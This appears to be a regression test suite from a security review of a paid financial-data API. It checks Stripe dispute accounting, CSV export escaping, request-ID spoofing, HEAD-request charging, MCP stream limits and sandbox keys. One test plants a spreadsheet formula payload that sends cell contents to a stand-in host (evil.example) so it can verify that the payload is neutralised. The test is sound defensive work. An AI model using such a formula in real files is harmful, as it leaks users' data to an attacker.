/**
 * Security review, low findings about money, metering and integrations: each attack, kept as a
 * regression test. Money is checked on both backend pairs (SQLite + in-process limits, PostgreSQL
 * + Redis); every fake provider listens on loopback.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { parse } from 'csv-parse/sync'
import { topUp } from '../../src/services/account/admin.ts'
import { signSession } from '../../src/services/identity/session.ts'
import { MAX_MCP_STREAMS } from '../../src/services/limits.ts'
import type { LedgerEntry } from '../../src/store/accounts/types.ts'
import { type FakeLlm, startFakeLlm } from '../helpers/fake-llm.ts'
import { type FakePlaid, startFakePlaid } from '../helpers/fake-plaid.ts'
import { type FakeStripe, startFakeStripe, stripeEnv } from '../helpers/fake-stripe.ts'
import { BACKEND_PAIRS, startTestApp, type TestApp } from '../helpers/test-app.ts'
import { mcpTransport, openStream } from '../mcp/clients.ts'

const USD = 1_000_000
const WEBHOOK_SECRET = 'whsec_security_metering_0123456789'

for (const b of BACKEND_PAIRS) {
  describe(`Stripe funds_reinstated reverses only what a dispute took: ${b.name}`, {
    skip: b.skip ?? undefined,
  }, () => {
    let t: TestApp
    let fake: FakeStripe
    let endpoint: string
    before(async () => {
      fake = await startFakeStripe()
      t = await startTestApp({ db: b.db, limits: b.limits, env: stripeEnv(fake, WEBHOOK_SECRET) })
      endpoint = `${await t.listen()}/billing/stripe/webhook`
    })
    after(async () => {
      await t?.close()
      await fake?.close()
    })

    const balance = async (account: string) => (await t.ctx.accounts.balance(account)).balanceMicros
    const ledger = (account: string): Promise<LedgerEntry[]> =>
      t.ctx.accounts.entries(account, { from: 0, to: Number.MAX_SAFE_INTEGER, limit: 1000 })
    const deliver = async (type: string, object: Record<string, unknown>, id?: string) => {
      const r = await fake.send(endpoint, fake.event(type, object, id), { secret: WEBHOOK_SECRET })
      assert.equal(r.status, 200, JSON.stringify(r.body))
      return r.body.outcome
    }
    /** An account topped up with `usd` through a paid Checkout Session; its payment intent. */
    const paid = async (usd: number) => {
      const account = await t.account(0)
      const c = await t.client.call('createCheckout', {
        body: { amount_usd: usd },
        key: await t.key(account),
      })
      assert.equal(c.status, 201, c.text)
      const session = fake.complete((c.json as { session_id: string }).session_id)
      assert.equal(await deliver('checkout.session.completed', { ...session }), 'applied')
      assert.equal(await balance(account), usd * USD)
      return { account, pi: session.payment_intent as string }
    }
    const dispute = (id: string, pi: string, cents: number, status = 'won') => ({
      id,
      object: 'dispute',
      amount: cents,
      currency: 'usd',
      charge: `ch_${id}`,
      payment_intent: pi,
      status,
      reason: 'fraudulent',
    })

    test('funds_reinstated without a posted chargeback credits nothing, recorded as processed', async () => {
      const { account, pi } = await paid(20)
      const before = await ledger(account)
      const ev = fake.event('charge.dispute.funds_reinstated', dispute('dp_never_withdrawn', pi, 2000))
      const r = await fake.send(endpoint, ev, { secret: WEBHOOK_SECRET })
      assert.equal(r.status, 200, JSON.stringify(r.body))
      assert.equal(r.body.outcome, 'applied')
      assert.equal(await balance(account), 20 * USD, 'no money appeared')
      assert.deepEqual(await ledger(account), before)
      assert.equal(await t.ctx.accounts.payments().eventProcessed(ev.id), true)
      // Redelivered: still nothing, and known as processed.
      assert.equal((await fake.send(endpoint, ev, { secret: WEBHOOK_SECRET })).body.outcome, 'duplicate')
      assert.equal(await balance(account), 20 * USD)
    })

    test('an inquiry (warning_needs_response) debits nothing, so its reinstatement credits nothing', async () => {
      const { account, pi } = await paid(10)
      assert.equal(
        await deliver('charge.dispute.created', dispute('dp_inquiry', pi, 1000, 'warning_needs_response')),
        'applied',
      )
      assert.equal(await balance(account), 10 * USD)
      await deliver('charge.dispute.funds_reinstated', dispute('dp_inquiry', pi, 1000))
      assert.equal(await balance(account), 10 * USD)
      assert.equal((await ledger(account)).filter((e) => e.kind === 'credit').length, 0)
    })

    test('after a chargeback, funds_reinstated restores exactly the chargeback, once', async () => {
      const { account, pi } = await paid(30)
      await deliver('charge.dispute.funds_withdrawn', dispute('dp_real', pi, 1500, 'needs_response'))
      assert.equal(await balance(account), 30 * USD - 15 * USD)
      // Stripe may redeliver one event, or send the same reinstatement under two event ids; an
      // event claiming more than was taken gets back only what was taken.
      const ev = fake.event('charge.dispute.funds_reinstated', dispute('dp_real', pi, 3000))
      assert.equal((await fake.send(endpoint, ev, { secret: WEBHOOK_SECRET })).body.outcome, 'applied')
      assert.equal((await fake.send(endpoint, ev, { secret: WEBHOOK_SECRET })).body.outcome, 'duplicate')
      assert.equal(await deliver('charge.dispute.funds_reinstated', dispute('dp_real', pi, 1500)), 'applied')
      assert.equal(await balance(account), 30 * USD)
      const credits = (await ledger(account)).filter((e) => e.kind === 'credit')
      assert.deepEqual(
        credits.map((e) => e.amountMicros),
        [15 * USD],
      )
      // Another dispute's chargeback is not this one's to reverse.
      await deliver('charge.dispute.funds_reinstated', dispute('dp_other', pi, 1500))
      assert.equal(await balance(account), 30 * USD)
      assert.equal((await t.ctx.accounts.reconcile(0)).correctedBalances, 0)
    })
  })
}

describe('CSV answers neutralise formula-leading text cells, never numbers', () => {
  let t: TestApp
  before(async () => {
    t = await startTestApp()
  })
  after(() => t?.close())

  test('a ledger reference planted as a formula is exported as text; debits stay negative numbers', async () => {
    const account = await t.account(0)
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
    await topUp(t.ctx, { accountId: account, usd: 10, reference: evil })
    const key = await t.key(account)
    assert.equal((await t.client.call('getMetrics', { params: { ticker: 'AAPL' }, key })).status, 200)
    const r = await t.client.call('getAccountLedger', { query: { format: 'csv' }, key })
    assert.equal(r.status, 200, r.text)
    assert.match(r.headers['content-type'] ?? '', /^text\/csv/)
    const [header, ...rows] = parse(r.text, { record_delimiter: '\r\n' }) as string[][]
    const col = (name: string) => (header as string[]).indexOf(name)
    const topup = rows.find((x) => x[col('kind')] === 'topup') as string[]
    assert.equal(topup[col('reference')], `'${evil}`)
    const debit = rows.find((x) => x[col('kind')] === 'debit') as string[]
    assert.equal(debit[col('amount_usd')], '-0.001')
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+@\t\r]/)
  })
})

for (const b of BACKEND_PAIRS) {
  describe(`request ids, HEAD and MCP streams: ${b.name}`, { skip: b.skip ?? undefined }, () => {
    let t: TestApp
    before(async () => {
      // One loopback address opens 100 streams below: over the per-address connection cap (64,
      // tested in edge.test.ts), which would reset connections before the stream cap is reached.
      t = await startTestApp({ db: b.db, limits: b.limits, env: { ERM3_MAX_CONNECTIONS_PER_ADDRESS: '0' } })
    })
    after(() => t?.close())
    const debits = async (account: string) =>
      (await t.ctx.accounts.entries(account, { from: 0, to: Number.MAX_SAFE_INTEGER, limit: 1000 })).filter(
        (e) => e.kind === 'debit',
      )

    test('a client cannot choose the ledger’s request id: the same X-Request-ID twice is two erm3 ids', async () => {
      const account = await t.account(1)
      const key = await t.key(account)
      const victim = 'req_0VcKvvU3XFqmM5000006'
      const ids: string[] = []
      for (const extra of [{}, { 'x-correlation-id': 'corr-2' }]) {
        const r = await t.app.fastify.inject({
          url: '/metrics/AAPL',
          headers: {
            authorization: `Bearer ${key}`,
            'x-request-id': victim,
            'cache-control': 'no-cache',
            ...extra,
          },
        })
        assert.equal(r.statusCode, 200, r.body)
        const id = r.headers['x-request-id'] as string
        assert.notEqual(id, victim)
        assert.equal(JSON.parse(r.body)._agent.request_id, id)
        assert.equal(r.headers['x-correlation-id'], 'x-correlation-id' in extra ? 'corr-2' : victim)
        ids.push(id)
      }
      assert.notEqual(ids[0], ids[1])
      assert.deepEqual((await debits(account)).map((e) => e.requestId).sort(), [...ids].sort())
    })

    test('HEAD of a paid GET is 405 and charges nothing; HEAD of an MCP stream opens no session', async () => {
      const account = await t.account(1)
      const key = await t.key(account)
      const sessions = t.app.mcpSessions()
      for (const url of ['/metrics/AAPL', '/ticker-returns?ticker=AAPL&years=1', '/mcp/sse', '/mcp']) {
        const r = await t.app.fastify.inject({
          method: 'HEAD',
          url,
          headers: { authorization: `Bearer ${key}`, 'cache-control': 'no-cache' },
        })
        assert.equal(r.statusCode, 405, url)
        assert.match(r.headers.allow as string, /GET/)
        assert.equal(r.body, '')
      }
      assert.equal((await t.ctx.accounts.balance(account)).balanceMicros, USD)
      assert.deepEqual(await debits(account), [])
      assert.equal(t.app.mcpSessions(), sessions)
      // HEAD of a free GET is still served.
      const free = await t.app.fastify.inject({
        method: 'HEAD',
        url: '/balance',
        headers: { authorization: `Bearer ${key}` },
      })
      assert.equal(free.statusCode, 200)
    })

    test(`one key opening 100 MCP event streams at once gets ${MAX_MCP_STREAMS}; the rest are 429`, async () => {
      const account = await t.account(1)
      const key = await t.key(account)
      const base = await t.listen()
      const streams = await Promise.all(Array.from({ length: 100 }, () => openStream(base, key)))
      try {
        assert.equal(streams.filter((x) => x.status === 200).length, MAX_MCP_STREAMS)
        const refused = streams.filter((x) => x.status !== 200)
        assert.ok(refused.every((x) => x.status === 429 && x.problem?.code === 'CONCURRENCY_LIMITED'))
      } finally {
        for (const x of streams) x.close()
      }
    })
  })
}

describe('test keys never reach the operator’s paid providers (Plaid, the LLM)', () => {
  let t: TestApp
  let plaid: FakePlaid
  let llm: FakeLlm
  before(async () => {
    plaid = await startFakePlaid()
    llm = await startFakeLlm()
    t = await startTestApp({
      env: {
        PLAID_CLIENT_ID: plaid.clientId,
        PLAID_SECRET: plaid.secret,
        PLAID_ENV: 'production',
        PLAID_API_BASE: plaid.url,
        ERM3_PLAID_TOKEN_KEYS: `k1:${Buffer.alloc(32, 3).toString('base64')}`,
        LLM_BASE_URL: llm.url,
        LLM_MODEL: 'operator-paid-model',
        LLM_API_KEY: 'sk-operator-paid',
      },
    })
  })
  after(async () => {
    await t?.close()
    await plaid?.close()
    await llm?.close()
  })

  test('a test key’s holdings, chats (JSON and streamed) and MCP tool calls make no provider request', async () => {
    const email = `sandbox-${Date.now()}@example.com`
    const account = await t.account(5, email)
    // The account's real brokerage is linked (one Plaid call, by its session): test keys must not read it.
    const session = await signSession(t.ctx, { accountId: account, email })
    const link = await t.app.fastify.inject({
      method: 'POST',
      url: '/plaid/exchange',
      headers: { authorization: `Bearer ${session}` },
      payload: { public_token: plaid.publicToken() },
    })
    assert.equal(link.statusCode, 201, link.body)
    const key = await t.key(account, { env: 'test' })
    const plaidCalls = plaid.requests.length
    const headers = { authorization: `Bearer ${key}` }
    for (let i = 0; i < 3; i++) {
      const h = await t.app.fastify.inject({ url: '/plaid/holdings', headers })
      assert.equal(h.statusCode, 200, h.body)
      assert.equal(JSON.parse(h.body).items[0].id, 'pli_sandbox')
    }
    const ask = { messages: [{ role: 'user', content: 'What is the beta of AAPL?' }] }
    const c = await t.app.fastify.inject({ method: 'POST', url: '/chat', headers, payload: ask })
    assert.equal(c.statusCode, 200, c.body)
    assert.match(JSON.parse(c.body).message.content, /^\[sandbox\]/)
    const streamed = await t.app.fastify.inject({
      method: 'POST',
      url: '/chat',
      headers,
      payload: { ...ask, stream: true },
    })
    assert.match(streamed.body, /event: done/)
    assert.doesNotMatch(streamed.body, /event: error/)
    const mcp = new Client({ name: 'sandbox-check', version: '1' })
    await mcp.connect(mcpTransport('streamable HTTP', await t.listen(), key))
    try {
      const r = await mcp.callTool({ name: 'plaid_holdings', arguments: {} })
      assert.ok(!r.isError, JSON.stringify(r.content))
    } finally {
      await mcp.close()
    }
    assert.equal(plaid.requests.length, plaidCalls, 'no request reached Plaid')
    assert.equal(llm.requests.length, 0, 'no request reached the LLM provider')
    assert.equal((await t.ctx.accounts.balance(account)).balanceMicros, 5 * USD)
    // A live key of the same account does reach them (the fakes are live): the check can fail.
    const live = { authorization: `Bearer ${await t.key(account)}` }
    assert.equal((await t.app.fastify.inject({ url: '/plaid/holdings', headers: live })).statusCode, 200)
    const paid = await t.app.fastify.inject({
      method: 'POST',
      url: '/chat',
      headers: live,
      payload: { ...ask, max_tool_calls: 0 },
    })
    assert.equal(paid.statusCode, 200, paid.body)
    assert.ok(plaid.requests.length > plaidCalls && llm.requests.length > 0)
  })
})
